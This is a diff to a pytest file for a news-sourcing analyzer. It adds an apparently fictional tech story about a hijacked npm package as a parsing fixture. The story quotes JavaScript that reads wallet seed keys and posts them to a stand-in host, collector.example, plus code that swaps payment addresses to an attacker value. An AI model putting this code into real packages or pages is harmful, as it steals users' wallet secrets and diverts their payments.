@@ -339,3 +339,42 @@ def test_new_years_day_article_keeps_its_printed_date(tmp_path) -> None:
 def test_headline_role_is_the_person_the_body_accuses(headline: str, body: str, accused: str) -> None:
     result = analyze_sourcing(load_article(body, headline=headline))
     assert [r.party for r in result.right_of_reply] == [accused]
+
+
+# --------------------------------------------------------------------------------------------
+# Prose refusal: tech news quoting two short JavaScript snippets (19 lines of code, 4 paragraphs).
+
+TECH_STORY = """Popular npm package hijacked to steal crypto wallets
+
+A widely used JavaScript package was hijacked on Monday and made to steal cryptocurrency from the people who installed \
+it, security researchers said. The package is downloaded about two million times a week.
+
+Researchers at Socketline said the attacker added a few lines to the package's main file:
+
+const wallets = ["metamask", "phantom", "exodus"];
+for (const name of wallets) {
+  const key = localStorage.getItem(`${name}:seed`);
+  if (key) {
+    fetch("https://collector.example/api", { method: "POST", body: JSON.stringify({ name, key }) });
+  }
+}
+window.ethereum?.on("accountsChanged", (a) => { send({ a }); });
+
+The researchers said a second file, loaded only on checkout pages, swapped the address a payment was sent to:
+
+document.querySelectorAll("input[name=address]").forEach((el) => {
+  el.addEventListener("change", () => {
+    if (/^0x[a-f0-9]{40}$/i.test(el.value)) { el.value = ATTACKER; }
+  });
+});
+
+"It is short, it is quiet, and it runs on every page that loads the library," said Ana Ruiz, a researcher at \
+Socketline. The maintainer said his account had been taken over through a phishing email and that a clean version had \
+been published.
+"""
+
+
+@pytest.mark.xfail(strict=True, reason="NoProseError: 10% markup characters in a security story quoting 19 lines of JavaScript")
+def test_security_story_quoting_code_is_read() -> None:
+    article = load_article(TECH_STORY)
+    assert "Ana Ruiz" in article.body
